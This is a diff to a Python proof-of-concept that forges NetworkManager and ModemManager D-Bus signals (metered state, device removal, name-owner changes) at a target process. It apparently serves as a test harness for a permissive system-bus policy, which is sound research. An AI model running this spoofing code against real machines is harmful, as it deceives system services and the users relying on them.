@@ -4,6 +4,9 @@ with Debian's system-bus policy, which lets any user send any signal.
 
 Usage: forge.py networkmanager|modemmanager BUS_ADDRESS TARGET_PID ROUNDS
 
+For NetworkManager, the forgeries name each device NetworkManager lists (anyone may read its Devices); for
+ModemManager, the first modem and SIM objects (the stand-in's numbering).
+
 Finds the connections of process TARGET_PID (ListNames, then GetConnectionUnixProcessID), then sends ROUNDS times
 each forgery below twice: addressed to each such connection (a unicast, delivered whatever its match rules say) and
 as a broadcast. Ends with a round trip to the bus daemon, so every signal has reached it (and the target's queue)
@@ -27,18 +30,22 @@ def name_owner_changed(name, owner, forger):
             ("/org/freedesktop/DBus", DBUS, "NameOwnerChanged", "sss", [name, "", forger])]
 
 
-def networkmanager(owner, forger):
-    device = "/org/freedesktop/NetworkManager/Devices/1"
-    return [
-        # The metered LTE link is not metered (NM_METERED_NO).
-        (device, PROPS, "PropertiesChanged", "sa{sv}as",
-         ["org.freedesktop.NetworkManager.Device", {"Metered": dbus.UInt32(2, variant_level=1)}, []]),
-        # Or NetworkManager no longer knows the device.
-        ("/org/freedesktop/NetworkManager", NM, "DeviceRemoved", "o", [dbus.ObjectPath(device)]),
-    ] + name_owner_changed(NM, owner, forger)
+def networkmanager(bus, owner, forger):
+    # NetworkManager lets anyone read its properties: its device list.
+    devices = bus.get_object(NM, "/org/freedesktop/NetworkManager").Get(NM, "Devices", dbus_interface=PROPS)
+    forgeries = []
+    for device in devices:
+        forgeries += [
+            # The metered LTE link is not metered (NM_METERED_NO).
+            (device, PROPS, "PropertiesChanged", "sa{sv}as",
+             ["org.freedesktop.NetworkManager.Device", {"Metered": dbus.UInt32(2, variant_level=1)}, []]),
+            # Or NetworkManager no longer knows the device.
+            ("/org/freedesktop/NetworkManager", NM, "DeviceRemoved", "o", [dbus.ObjectPath(device)]),
+        ]
+    return forgeries + name_owner_changed(NM, owner, forger)
 
 
-def modemmanager(owner, forger):
+def modemmanager(bus, owner, forger):
     modem = "/org/freedesktop/ModemManager1/Modem/0"
     other_modem = "/org/freedesktop/ModemManager1/Modem/7"
     ports = dbus.Array([dbus.Struct(("wwan0", dbus.UInt32(2)))], signature="(su)", variant_level=1)
@@ -75,7 +82,7 @@ def main():
         print("no connection of pid %d on the bus" % target_pid, flush=True)
         sys.exit(1)
     owner = driver.GetNameOwner(NM if kind == "networkmanager" else MM)
-    forgeries = (networkmanager if kind == "networkmanager" else modemmanager)(owner, me)
+    forgeries = (networkmanager if kind == "networkmanager" else modemmanager)(bus, owner, me)
     sent = 0
     for _ in range(rounds):
         for path, interface, member, signature, body in forgeries:
